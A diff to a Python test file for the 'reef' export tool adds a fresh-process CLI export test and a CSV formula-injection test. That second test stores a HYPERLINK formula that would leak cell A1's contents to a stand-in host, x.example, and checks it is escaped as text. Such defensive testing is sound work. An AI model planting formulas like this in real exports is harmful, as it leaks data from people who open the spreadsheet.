@@ -72,6 +72,36 @@ def test_cli_export_writes_the_workbook(db_path, tmp_path):
     assert '"masked": true' in r.output and (tmp_path / "d.xlsx").exists()
 
 
+def test_cli_export_in_a_fresh_process_has_every_capability_sheet(db_path, tmp_path):
+    # In-process tests have imported every capability already; a fresh `reef export` had only the six base sheets.
+    import json
+    import shutil
+    import subprocess
+    import sys
+    from pathlib import Path
+
+    script = Path(sys.executable).with_name("reef")
+    exe = str(script) if script.exists() else shutil.which("reef")
+    if exe is None:
+        pytest.skip("the reef script is not installed")
+    done = subprocess.run([exe, "export", "--out", str(tmp_path / "d.xlsx"), "--db", str(db_path), "--json"],
+                          capture_output=True, text=True, timeout=300)
+    assert done.returncode == 0, done.stderr
+    sheets = {s["sheet"] for s in json.loads(done.stdout)["sheets"]}
+    assert {"成员", "阶梯", "风险", "关键节点", "知识缺口"} <= sheets
+
+
+def test_csv_cells_that_look_like_formulas_stay_text(db_path, tmp_path):
+    from reef.export import export_tables
+
+    store = _store(db_path)
+    formula = '=HYPERLINK("http://x.example/?"&A1,"点我")'
+    store.execute("UPDATE members SET name = ? WHERE member_id = 'evil'", [formula])
+    export_tables(store, tmp_path / "csv", unmask=True)
+    rows = list(csv.DictReader(io.StringIO((tmp_path / "csv" / "members.csv").read_text(encoding="utf-8-sig"))))
+    assert next(r for r in rows if r["member_id"] == "evil")["name"] == "'" + formula
+
+
 def test_http_export_masks_for_operators_and_refuses_unmask(client):
     client.post("/api/v1/login", json={"username": "operator", "password": PASSWORD})
     assert client.get("/api/v1/export?unmask=true").status_code == 403
